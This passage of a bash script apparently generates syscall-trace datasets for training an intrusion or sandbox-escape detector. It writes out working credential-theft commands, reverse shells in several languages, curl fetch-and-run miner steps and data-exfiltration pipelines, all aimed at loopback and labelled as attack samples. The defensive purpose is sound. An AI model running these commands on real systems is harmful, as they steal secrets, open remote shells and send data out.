head -c 1600 /dev/urandom | base64 | sed '1i -----BEGIN OPENSSH PRIVATE KEY-----' | sed '$a -----END OPENSSH PRIVATE KEY-----' \
    >"$victim/home/.ssh/id_rsa"
head -c 300 /dev/urandom | base64 | sed '1i -----BEGIN OPENSSH PRIVATE KEY-----' | sed '$a -----END OPENSSH PRIVATE KEY-----' \
    >"$victim/home/.ssh/id_ed25519"
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKE dev@laptop" >"$victim/home/.ssh/id_ed25519.pub"
printf '[default]\naws_access_key_id = AKIAFAKEFAKEFAKE1234\naws_secret_access_key = fake/Secret/Key/0123456789abcdef\n' \
    >"$victim/home/.aws/credentials"
printf '{"client_id": "fake.apps.googleusercontent.com", "refresh_token": "1//fake-token"}\n' \
    >"$victim/home/.config/gcloud/application_default_credentials.json"
printf '{"auths": {"registry.example.test": {"auth": "ZGV2OmZha2UtcGFzc3dvcmQ="}}}\n' >"$victim/home/.docker/config.json"
printf 'apiVersion: v1\nusers:\n- name: admin\n  user:\n    token: fake-kube-token\n' >"$victim/home/.kube/config"
printf 'machine git.example.test login dev password fake-password\n' >"$victim/home/.netrc"
printf 'https://dev:ghp_fakefakefakefake@github.com\n' >"$victim/home/.git-credentials"
printf 'export DB_PASSWORD=fake\nmysql -u root -pfake\n' >"$victim/home/.bash_history"
printf 'DATABASE_URL=postgres://app:fake@db/app\nSTRIPE_KEY=sk_test_fake\n' >"$victim/project/.env"
printf -- '-----BEGIN PRIVATE KEY-----\nFAKEFAKEFAKE\n-----END PRIVATE KEY-----\n' >"$victim/project/config/server.key"
printf -- '-----BEGIN CERTIFICATE-----\nFAKEFAKEFAKE\n-----END CERTIFICATE-----\n' >"$victim/project/config/server.pem"
for i in $(seq 1 30); do head -c 4000 /dev/urandom | base64 >"$victim/project/src/module$i.py"; done
for i in $(seq 1 10); do head -c 20000 /dev/urandom | base64 >"$victim/project/docs/report$i.txt"; done
chmod 600 "$victim/home/.ssh/id_rsa" "$victim/home/.ssh/id_ed25519" "$victim/home/.aws/credentials"

cat >"$WORK/scripts/creds.sh" <<'EOF'
# Credential theft: keys, cloud tokens and the system's secrets.
v=$1 home=$2
export HOME=$home
case $v in
1) cat ~/.ssh/id_rsa ~/.ssh/id_ed25519 ~/.aws/credentials ;;
2) find ~ -name 'id_*' -o -name credentials -o -name '*.json' | xargs cat; cat /etc/shadow ;;
3) python3 -c 'import base64, glob, os
for p in glob.glob(os.path.expanduser("~/.ssh/id_*")) + [os.path.expanduser("~/.aws/credentials"), "/etc/shadow", "/etc/gshadow"]:
    try: print(p, base64.b64encode(open(p, "rb").read())[:40])
    except OSError as e: print(p, e)' ;;
4) grep -rEi 'secret|password|token|BEGIN .*PRIVATE' ~ /etc 2>/dev/null | head -50 ;;
5) mkdir loot && cp -r ~/.ssh ~/.aws ~/.docker ~/.kube loot/ && tar czf loot.tgz loot
   cat /etc/ssh/ssh_host_*_key /root/.ssh/id_* 2>&1 ;;
6) for p in ~/.ssh/id_rsa ~/.ssh/id_ecdsa ~/.ssh/id_ed25519 ~/.aws/credentials ~/.aws/config ~/.netrc ~/.git-credentials \
            ~/.docker/config.json ~/.kube/config ~/.config/gcloud/application_default_credentials.json ~/.bash_history \
            /etc/shadow /etc/sudoers /root/.bash_history /var/lib/alcub3/baseline.key; do
       [ -r "$p" ] && { echo "== $p"; cat "$p"; } || echo "no $p"
   done; cat /proc/1/environ /proc/self/environ | tr '\0' '\n' | grep -i key ;;
7) env | grep -iE 'key|token|secret|pass'; ls -la ~ ~/.ssh; head -c 200 ~/.ssh/id_rsa; sha256sum ~/.ssh/* ~/.aws/* ;;
esac
EOF

cat >"$WORK/scripts/revshell.sh" <<'EOF'
# A reverse shell: an interactive sh with its stdio on a socket to a listener.
v=$1 port=$2
case $v in
1) exec 3<>"/dev/tcp/127.0.0.1/$port" && sh -i <&3 >&3 2>&3 ;;
2) python3 -c 'import os, socket, subprocess, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
[os.dup2(s.fileno(), f) for f in (0, 1, 2)]
subprocess.call(["/bin/sh", "-i"])' "$port" ;;
3) python3 -c 'import os, pty, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
[os.dup2(s.fileno(), f) for f in (0, 1, 2)]
pty.spawn("/bin/sh")' "$port" ;;
4) coproc NC { nc 127.0.0.1 "$port"; }
   sh -i <&"${NC[0]}" >&"${NC[1]}" 2>&1 ;;
5) perl -e 'use Socket; $p = shift; socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
   connect(S, sockaddr_in($p, inet_aton("127.0.0.1"))) or die; open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
   exec("/bin/sh -i");' "$port" ;;
6) python3 -c 'import socket, subprocess, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
subprocess.Popen(["/bin/bash", "-i"], stdin=s, stdout=s, stderr=s).wait()' "$port" ;;
esac
EOF

cat >"$WORK/scripts/miner.sh" <<'EOF'
# Crypto-mining: a CPU loop of SHA-256, some fetched and made executable first.
v=$1 scripts=$2 share=$3 pool=$4 web=$5
case $v in
1) python3 "$scripts/miner.py" single 2 ;;
2) python3 "$scripts/miner.py" threads 2 ;;
3) python3 "$scripts/miner.py" processes 2 ;;
4) cp "$share/miner" ./kworker && chmod 755 ./kworker && ./kworker 2 2 ;;
5) curl -fsS -o .x "http://127.0.0.1:$web/miner" && chmod +x .x && ./.x 2 2 "$pool" ;;
6) python3 "$scripts/miner.py" pool 2 "$pool" ;;
7) curl -fsS "http://127.0.0.1:$web/miner" >xmrig && chmod 700 xmrig && (./xmrig 1 2 "$pool" &) && sleep 0.2 && ./xmrig 1 1.5 ;;
esac
EOF

cat >"$WORK/scripts/exfil.sh" <<'EOF'
# Data staging and exfiltration to loopback.
v=$1 victim=$2 sink=$3 web=$4
mkdir staging
case $v in
1) cp -r "$victim/project/." staging/ && tar czf s.tgz staging && curl -fsS --data-binary @s.tgz "http://127.0.0.1:$web/upload" ;;
2) find "$victim" -name '*.key' -o -name '*.pem' -o -name '.env' -o -name 'id_*' | tar czf - -T - | nc -N 127.0.0.1 "$sink" ;;
3) python3 -c 'import os, sys, urllib.request, zipfile
with zipfile.ZipFile("s.zip", "w", zipfile.ZIP_DEFLATED) as z:
    for root, _, files in os.walk(sys.argv[1]):
        for f in files: z.write(os.path.join(root, f))
urllib.request.urlopen(urllib.request.Request("http://127.0.0.1:%s/u" % sys.argv[2], data=open("s.zip", "rb").read(), method="POST")).read()' \
   "$victim/project" "$web" ;;
4) tar czf s.tgz -C "$victim" home/.ssh home/.aws project/.env && base64 -w 600 s.tgz >s.b64
   while read -r chunk; do curl -fsS -o /dev/null "http://127.0.0.1:$web/c?d=$chunk"; done <s.b64 ;;
5) cp "$victim"/project/docs/* staging/ && gzip -9 staging/*
   python3 -c 'import glob, socket, sys
for p in sorted(glob.glob("staging/*.gz")):
    s = socket.create_connection(("127.0.0.1", int(sys.argv[1]))); s.sendall(open(p, "rb").read()); s.close()' "$sink" ;;
6) tar cf - -C "$victim" project | gzip -c >staging/p.tgz && split -b 65536 staging/p.tgz staging/part.
   for part in staging/part.*; do curl -fsS -o /dev/null -F "file=@$part" "http://127.0.0.1:$web/up"; done ;;
7) find "$victim/project" -type f -size -8k | xargs cat | gzip | openssl enc -aes-256-cbc -pbkdf2 -pass pass:x 2>/dev/null \
       | nc -N 127.0.0.1 "$sink" || tar czf - "$victim/project/src" | nc -N 127.0.0.1 "$sink" ;;
esac
EOF

# ------------------------------------------------------------- recording

echo "recording normal work (odd variants: train, even: normal)"
for v in 1 2 3 4 5 6 7 8; do
    set_name=$(split_set "$v")
    record "$set_name" "gcc-$v" -- /bin/bash "$WORK/scripts/gcc.sh" "$v"
    record "$set_name" "python-$v" -- /usr/bin/python3 "$WORK/scripts/python.py" "$v"
    record "$set_name" "git-$v" -- /bin/bash "$WORK/scripts/git.sh" "$v"
    record "$set_name" "pip-$v" -- /bin/bash "$WORK/scripts/pip.sh" "$v" "$WORK/fixtures"
    record "$set_name" "archive-$v" -- /bin/bash "$WORK/scripts/archive.sh" "$v"
    record "$set_name" "tests-$v" -- /bin/bash "$WORK/scripts/testsuite.sh" "$v" "$WORK/fixtures"
    record "$set_name" "text-$v" -- /bin/bash "$WORK/scripts/text.sh" "$v"
    record "$set_name" "make-$v" --seccomp-profile "$WORK/share/make-seccomp.json" \
        -- /bin/bash "$WORK/scripts/make.sh" "$v" "$WORK/fixtures"
done

echo "recording attacks"
start_server sink && sink=$SERVER_PORT
start_server http "$WORK/share" && web=$SERVER_PORT
escape_groups=(
    "mount userns-unshare setns-host double-chroot"
    "ptrace-outside proc-mem-outside process-vm-writev proc-root-traversal"
    "core-pattern sysrq kernel-module cgroup-release-agent"
    "bpf perf-event keyctl userfaultfd io-uring"
    "raw-socket cloud-metadata runtime-socket open-by-handle"
    "write-outside-workspace ld-preload mknod-block setuid-root memfd-exec wx-mapping"
)
for i in "${!escape_groups[@]}"; do
    # shellcheck disable=SC2086 # one technique per word
    record attack "escape-$((i + 1))" -- "$WORK/bin/alcub3-escape" --host-pid $$ ${escape_groups[$i]}
done
shell_sessions=(
    "id|uname -a|cat /etc/passwd|ls -la /"
    "whoami|hostname|ps aux|cat /proc/version"
    "pwd|ls -la|env|cat /etc/os-release"
    "id|find /usr/bin /usr/sbin /usr/lib -perm -4000 -type f 2>/dev/null|ip addr"
    "uname -r|cat /proc/cpuinfo|df -h|mount"
    "id|ls -la ~|cat /etc/hosts|netstat -tn 2>/dev/null || cat /proc/net/tcp"
)
for v in 1 2 3 4 5 6; do
    IFS='|' read -r -a commands <<<"${shell_sessions[$((v - 1))]}"
    start_server shell "${commands[@]}"
    record attack "revshell-$v" -- /bin/bash "$WORK/scripts/revshell.sh" "$v" "$SERVER_PORT"
    wait "$SERVER_PID" 2>/dev/null || true
done
for v in 1 2 3 4 5 6 7; do
    record attack "creds-$v" -- /bin/bash "$WORK/scripts/creds.sh" "$v" "$victim/home"
done
for v in 1 2 3 4 5 6 7; do
    record attack "miner-$v" -- /bin/bash "$WORK/scripts/miner.sh" "$v" "$WORK/scripts" "$WORK/share" "$sink" "$web"
done
for v in 1 2 3 4 5 6 7; do
    record attack "exfil-$v" -- /bin/bash "$WORK/scripts/exfil.sh" "$v" "$victim" "$sink" "$web"
done

echo
printf '%-7s %7s %10s\n' set traces syscalls
for set_name in train normal attack; do
    traces=$(find "$OUT/$set_name" -type f -name '*.trace' | wc -l)
    syscalls=$(find "$OUT/$set_name" -type f -name '*.trace' -exec cat {} + | wc -w)
    printf '%-7s %7d %10d\n' "$set_name" "$traces" "$syscalls"
done
echo "data sets in $OUT ($(($(date +%s) - started)) s)"
